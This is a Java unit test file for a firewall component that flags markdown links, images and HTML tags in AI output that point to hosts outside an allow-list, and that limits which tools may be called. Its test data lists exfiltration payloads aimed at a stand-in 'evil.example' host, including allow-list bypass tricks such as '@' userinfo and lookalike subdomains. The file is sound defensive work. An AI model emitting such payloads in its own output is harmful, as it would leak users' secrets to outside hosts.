package dev.weir.governance.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ExfiltrationTest {

  private final Exfiltration exfiltration =
      new Exfiltration(Set.of("docs.example.com", ".trusted.example"), Set.of("search"));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=secret)",
        "[x](http://evil.example/)",
        "![x][1]\n\n[1]: https://evil.example/log",
        "see https://evil.example/a",
        "<https://evil.example>",
        "<img src=\"https://evil.example/p.png\">",
        "<img src = //evil.example/p.png>",
        "![x](//evil.example/p.png)",
        "![x](https:/\\evil.example/p.png)",
        "![x](https://docs.example.com@evil.example/)",
        "![x](https://docs.example.com.evil.example/)",
        "![x](HTTPS://EVIL.example/)",
        "![x](< https://evil.example/>)",
        "[call](ftp://evil.example/file)",
      })
  void findsAnAddressOutsideTheList(String output) {
    assertThat(exfiltration.check(output)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://docs.example.com/a.png)",
        "[x](https://api.trusted.example/)",
        "see https://docs.example.com/page?x=1#y",
        "[x](#below), [y](other.md), [z](mailto:me)",
        "array[0](x) and a[1]: nothing",
        "plain words"
      })
  void letsAllowedAndRelativeAddressesPass(String output) {
    assertThat(exfiltration.check(output)).isEmpty();
  }

  @Test
  void saysWhereInCodePointsAndHow() {
    String output =
        "\ud83d\ude00 ![x](https://evil.example/) and <img src='https://evil.example/'>";

    assertThat(exfiltration.check(output))
        .containsExactly(
            new Exfiltration.Leak(Exfiltration.Way.IMAGE, 7, 28),
            new Exfiltration.Leak(Exfiltration.Way.HTML, 44, 65));
  }

  @Test
  void allowsOnlyTheToolsOfTheList() {
    assertThat(exfiltration.allowsTool("search")).isTrue();
    assertThat(exfiltration.allowsTool("send_email")).isFalse();
  }

  @Test
  void staysBoundedOnManyAddresses() {
    assertThat(exfiltration.check("![x](https://evil.example/) ".repeat(10_000)))
        .hasSize(Exfiltration.LEAKS_MAX);
  }
}
